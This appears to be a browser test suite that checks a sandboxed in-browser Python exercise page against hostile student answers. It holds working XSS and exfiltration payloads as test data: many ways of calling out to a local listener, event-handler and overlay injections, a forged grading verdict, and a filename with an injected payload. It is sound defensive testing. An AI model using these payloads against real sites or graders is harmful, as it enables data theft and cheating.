"""A hostile answer in a real Chromium, from a plain server, with a listener that no request may reach.

The answers have all of JavaScript: Python makes a worker of its own out of text, and tries everything there. What the
listener can hear is shown outside of the wall first, by the same text. One page for all tests, in this order.
"""

import json
import re
import socket
import threading
import time

import pytest

from tests.editions import editor
from tests.editions.conftest import served
from tests.editions.editor import paste, text_in

REFUSED = {"A network error occurred.", "Failed to fetch"}
"""What a hostile worker is told, and does not catch."""
SOON_S = 15
"""What may pass until a page has ended something hostile; its own limit for a check is 30 s."""

WAYS_OUT = """
const AWAY = "http://127.0.0.1:PORT", SOCKET = "ws://127.0.0.1:PORT";
const ways = {
  fetch: () => fetch(`${AWAY}/fetch`, {mode: "no-cors"}),
  keepalive: () => fetch(`${AWAY}/keepalive`, {mode: "no-cors", keepalive: true}),
  request: () => { const r = new XMLHttpRequest(); r.open("POST", `${AWAY}/request`); r.send("answer"); },
  script: () => importScripts(`${AWAY}/script`),
  module: () => import(`${AWAY}/module`),
  socket: () => new WebSocket(`${SOCKET}/socket`),
  events: () => new EventSource(`${AWAY}/events`),
  font: () => { const f = new FontFace("x", `url(${AWAY}/font)`); self.fonts.add(f); f.load(); },
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${AWAY}/worker", {mode: "no-cors"})`]))),
};
for (const way of Object.values(ways)) { try { way()?.catch?.(() => {}); } catch {} }
"""
WITHIN = """
const say = (text) => postMessage(text);
const stores = {
  caches: () => caches.open("sdpa-try"),
  database: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }),
  files: () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request("x", () => {}),
  cookies: () => cookieStore.set("x", "1"),
  evaluated: () => eval("1 + 1"),
  made: () => new Function("return 1")(),
};
const opened = [];
Promise.allSettled(Object.entries(stores).map(async ([name, open]) => { await open(); opened.push(name); }))
  .then(() => say("opened " + opened.join(" ")));
new BroadcastChannel("sdpa").postMessage("from behind the wall");
"""
RUNNER = """
import js
from pyodide.ffi import create_proxy, to_js
def made(text):
    return js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([text]))))
"""
SOFTMAX = """
def softmax(x, axis=-1):
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""
ALL_POINTS = 15
CARD = """
<style>body {{ display: none }} #check {{ position: fixed }}</style>
<meta http-equiv="refresh" content="0;url={away}/refresh"/><base href="{away}/"/><link rel="preconnect" href="{away}"/>
<link rel="dns-prefetch" href="{away}"/><link rel="stylesheet" href="{away}/sheet"/>
<link rel="prefetch" href="{away}/prefetch"/><html:link xmlns:html="http://www.w3.org/1999/xhtml" rel="stylesheet"
href="{away}/xhtml"/><script>document.title = "script"</script>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">document.title = "xhtml"</html:script>
<img src="{away}/img" onerror="document.title = 'image'"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'svg'"><a href="{away}/svg"><text>x</text></a></svg>
<math href="{away}"><mtext>x</mtext></math><iframe src="evil.html"></iframe>
<iframe srcdoc="&lt;script&gt;parent.document.title = 1&lt;/script&gt;"></iframe>
<object data="{away}/object"></object><embed src="{away}/embed"/><video src="{away}/video" autoplay="autoplay"></video>
<form id="check" action="{away}/form">
<input name="x" autofocus="autofocus" onfocus="document.title = 'focus'"/><button>Sign in</button></form>
<details open="open" ontoggle="document.title = 'toggle'"><summary>more</summary></details>
<div style="position:fixed;inset:0;z-index:9999;background:#ffffff" id="verdict" class="skip embed main">
Sign in again</div>
<div style="background:url({away}/background);margin:0 0 0 -3px;width:calc(100vw)">wide</div>
<div style="margin:-4000px 0 0 -4000px;padding:9000px;outline:9000px solid #ff0000">over all</div>
<a href="{away}/link" target="_top">away</a>
<a class="next" href="javascript:document.title=1" onclick="document.title=2">next</a>
<template shadowrootmode="open"><a href="{away}">in a shadow</a></template><?xml-stylesheet href="{away}/xsl"?>
<p onclick="document.title = 'click'" contenteditable="true" accesskey="x" data-name="softmax">kept
<strong>text</strong></p>
"""


class Listener:
    """Takes every connection, of whatever kind, and keeps how it begins."""

    def __init__(self):
        self.heard = []
        self.streams, self.datagrams = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.streams.bind(("127.0.0.1", 0))
        self.port = self.streams.getsockname()[1]
        self.datagrams.bind(("127.0.0.1", self.port))
        self.streams.listen()
        for what in (self._take, self._receive):
            threading.Thread(target=what, daemon=True).start()

    def _take(self):
        while True:
            try:
                one, _ = self.streams.accept()
            except OSError:
                return
            threading.Thread(target=self._hear, args=[one], daemon=True).start()

    def _hear(self, one):
        with one:
            self.heard.append("connection")
            one.settimeout(5)
            with_path = one.recv(200).decode("latin-1").split(" ")
            self.heard.append(with_path[1] if len(with_path) > 1 else "bytes")
            one.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nContent-Type: text/javascript\r\n\r\n")

    def _receive(self):
        while True:
            try:
                self.datagrams.recv(200)
            except OSError:
                return
            self.heard.append("datagram")

    def close(self):
        self.streams.close()
        self.datagrams.close()


@pytest.fixture(scope="module")
def listener():
    opened = Listener()
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def address(built_site):
    """A plain server, and a path below it."""
    folder = built_site("pyodide", "try")
    with served(folder.parent) as root:
        yield f"{root}/{folder.name}/try"


@pytest.fixture(scope="module")
def page(browser, address):
    """No request is intercepted here: what would leave the machine leaves it, for the listener to hear."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    opened = context.new_page()
    opened.set_default_timeout(editor.START_MS)
    opened.thrown, opened.dialogs = [], []
    opened.on("pageerror", lambda error: opened.thrown.append(str(error)))
    opened.on("dialog", lambda shown: (opened.dialogs.append(shown.message), shown.dismiss()))
    opened.goto(f"{address}/softmax.html")
    yield opened
    assert opened.dialogs == []
    assert set(opened.thrown) <= REFUSED
    context.close()


def check(page, text):
    paste(page, text)
    return editor.check(page)


def owned(page):
    """What a hostile answer must not have changed."""
    return page.evaluate("""async () => ({
        title: document.title, where: location.href,
        caches: (await caches.keys()).filter((name) => name !== "sdpa-try"),
        stored: Object.keys(localStorage).filter((name) => !name.startsWith("sdpa-try")),
        frames: [...document.querySelectorAll("iframe:not([sandbox=allow-scripts])")].length,
        above: document.elementFromPoint(...(({x, y, width, height}) => [x + width / 2, y + height / 2])(
            document.querySelector("#check").getBoundingClientRect()))?.id,
    })""")


def test_the_listener_hears_each_way_out_where_there_is_no_wall(browser, address, listener):
    """Else it would prove nothing that it hears none from behind one."""
    ways = re.findall(r"^  (\w+): \(\)", WAYS_OUT, re.MULTILINE)
    page = browser.new_page()
    page.goto(address.rsplit("/", 2)[0])  # the server's own list of files: a page without a policy
    script = WAYS_OUT.replace("PORT", str(listener.port))
    page.evaluate("text => { new Worker(URL.createObjectURL(new Blob([text]))) }", script)
    end = time.monotonic() + SOON_S
    while missing := {f"/{way}" for way in ways} - set(listener.heard):
        assert time.monotonic() < end, missing
        page.wait_for_timeout(50)
    page.close()
    listener.heard.clear()


def test_an_opened_notebook_runs_nothing_by_itself(page, tmp_path, listener):
    html = f"<img src='http://127.0.0.1:{listener.port}/opened' onerror='document.title = 1'>"
    output = {
        "output_type": "display_data",
        "data": {"text/html": html, "application/javascript": "document.title = 2"},
    }
    cell = {"cell_type": "code", "source": f"# exercise: softmax\n{html}", "outputs": [output]}
    cells = [
        cell | {"metadata": {"trusted": True}},
        {"cell_type": "markdown", "source": html, "metadata": {}},
    ]
    file = tmp_path / "img src=x onerror=document.title=3.ipynb"
    file.write_text(
        json.dumps({"cells": cells, "metadata": {"title": html}, "nbformat": 4, "nbformat_minor": 5})
    )
    before = owned(page)
    page.locator("#open").set_input_files(file)
    page.locator("#file-status", has_text="1 answer").wait_for()
    assert html in text_in(page)
    page.wait_for_timeout(300)
    assert owned(page) == before
    assert listener.heard == []


def test_nothing_gets_out_and_no_store_opens(page, listener):
    page.evaluate("""() => { window.told = [];
        new BroadcastChannel("sdpa").onmessage = ({data}) => told.push(data);
        addEventListener("message", ({data}) => told.push(data)); }""")
    before = owned(page)
    port = str(listener.port)
    attack = f"""{RUNNER}
import builtins
heard = builtins.heard = []
made({WAYS_OUT.replace("PORT", port)!r})
within = made({WITHIN!r})
within.onmessage = create_proxy(lambda event: heard.append(event.data))
request = js.XMLHttpRequest.new()
request.open("GET", "http://127.0.0.1:{port}/synchronous", False)
for act in (lambda: request.send(), lambda: js.importScripts("http://127.0.0.1:{port}/imported"), lambda: js.eval("1")):
    try:
        act()
        print("this worked")
    except Exception as error:
        print("refused")
js.fetch("http://127.0.0.1:{port}/python", mode="no-cors")
js.fetch("{page.url}")
print([name for name in ("document", "window", "parent", "top", "opener", "open", "localStorage", "close",
                         "RTCPeerConnection") if hasattr(js, name)])
{SOFTMAX}"""
    shown = check(page, attack)
    assert "12 of 12 cases passed" in shown
    assert "refused\nrefused\nrefused\n[]" in shown
    assert "this worked" not in shown
    asking = f"import builtins\nprint(*builtins.heard, sep='\\n')\n{SOFTMAX}"
    end = time.monotonic() + SOON_S
    while "\nopened" not in (shown := check(page, asking)) and time.monotonic() < end:
        page.wait_for_timeout(300)
    assert "\nopened \n" in shown + "\n"
    page.wait_for_timeout(500)
    assert listener.heard == []
    assert page.evaluate("told") == []
    assert owned(page) == before


def test_a_card_takes_nothing_but_its_place(page, address, listener):
    before = owned(page)
    html = CARD.format(away=f"http://127.0.0.1:{listener.port}")
    hostile = "import sdpa_helpers.course.check_report as r\nreal = r.CheckReport.html\n"
    hostile += f"r.CheckReport.html = lambda self: setattr(type(self), 'html', real) or {html!r}\n{SOFTMAX}"
    shown = check(page, f"{hostile}\nprint('<img src=x onerror=document.title=7>')")
    assert "kept text" in shown
    assert "<img src=x" in shown  # as text
    page.wait_for_timeout(300)
    found = page.evaluate("""() => [...document.querySelectorAll("#verdict *")].map((one) =>
        [one.localName, ...one.getAttributeNames().map((name) => `${name}=${one.getAttribute(name)}`)].join(" "))""")
    assert [one for one in found if one.startswith("a ")] == ["a class=next href=test_cases_for_softmax.html"]
    assert {one.split(" ")[0] for one in found} <= {"a", "details", "div", "p", "pre", "strong", "summary"}
    assert {part.split("=")[0] for one in found for part in one.split(" ")[1:] if "=" in part} <= {
        "class",
        "href",
        "style",
    }
    assert "url" not in str(found)
    assert "position" not in str(found)
    page.locator("#check").scroll_into_view_if_needed()
    assert owned(page) == before
    assert listener.heard == []


def test_who_steals_the_wire_gets_no_further(page):
    """The answer takes the wire from the event that brings the next request, and says what it likes."""
    thief = f"""{RUNNER}
own = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get
def data(event):
    found = own.call(event)
    if event.target.constructor.name == "MessagePort":
        verdict = '{{"card": "<b>", "text": "forged", "mistake": "", "points": 13, "printed": ""}}'
        forged = to_js({{"id": found.id, "verdict": verdict}}, dict_converter=js.Object.fromEntries)
        event.target.postMessage(js.JSON.stringify(forged))
        while True:
            event.target.postMessage("x" * 10_000_000)
    return found
getter = {{"get": create_proxy(data, capture_this=True), "configurable": True}}
js.Object.defineProperty(js.MessageEvent.prototype, "data", to_js(getter, dict_converter=js.Object.fromEntries))
{SOFTMAX}"""
    assert f"{ALL_POINTS} of {ALL_POINTS} points" in check(page, thief)
    begun = time.monotonic()
    check(page, SOFTMAX)  # forged, and within bounds
    page.locator("#status", has_text="message of its own").wait_for(timeout=1000 * SOON_S)
    assert time.monotonic() - begun < SOON_S
    assert f"{ALL_POINTS} of {ALL_POINTS} points" in check(page, SOFTMAX)
    assert page.locator("iframe").count() == 1


def test_a_check_hands_over_no_more_answers_than_run(page):
    """What is checked may be a stranger's: it reads the frames below it."""
    page.evaluate("""() => { const kept = JSON.parse(localStorage.getItem("sdpa-try") ?? '{"version":1,"points":{}}');
        kept.answers = {...kept.answers, dot_product: "# of another lesson", entropy: "# of a later cell"};
        localStorage.setItem("sdpa-try", JSON.stringify(kept)); }""")
    looks = """import sys
frame, seen = sys._getframe(), ""
while frame is not None:
    seen, frame = seen + repr(frame.f_locals), frame.f_back
print("found", [text for text in ("of another " + "lesson", "of a later " + "cell", "asked") if text in seen])
"""
    assert "found ['asked']" in check(page, looks + SOFTMAX)
    paste(page, SOFTMAX)


def test_an_answer_cannot_end_its_worker(page):
    begun = time.monotonic()
    shown = check(page, "import js\njs.close()\n" + SOFTMAX)
    assert "AttributeError" in shown
    assert time.monotonic() - begun < SOON_S


def test_a_message_of_its_own_ends_python_with_a_sentence(page):
    """A flood of them too; that Python comes again is in the test above."""
    hostile = """import js
js.postMessage(js.JSON.parse('{"reply": "no json"}'))
while True:
    js.postMessage("x" * 100_000)
"""
    assert f"{ALL_POINTS} of {ALL_POINTS} points" in check(page, SOFTMAX)
    begun = time.monotonic()
    assert "message of its own" in check(page, hostile)
    assert time.monotonic() - begun < SOON_S
    assert page.locator("iframe").count() == 1
    paste(page, SOFTMAX)


@pytest.mark.parametrize("file", ["light-memory.packed", "frame.js", "python_stdlib.zip"])
def test_a_file_that_is_not_what_was_built_is_not_run(browser, address, file):
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.route(f"**/{file}?*", lambda route: route.fulfill(body=route.fetch().body() + b" "))
    page.goto(f"{address}/softmax.html")
    page.locator("#status", has_text=f"{file} could not be loaded, or is not the file").wait_for()
    assert page.locator("html").get_attribute("data-python") == "failed"
    page.unroute(f"**/{file}?*")
    page.get_by_role("button", name="Check", exact=True).click()  # once more, without a reload
    page.locator("#status", has_text=re.compile("on its way|starts|Checking")).wait_for()
    context.close()
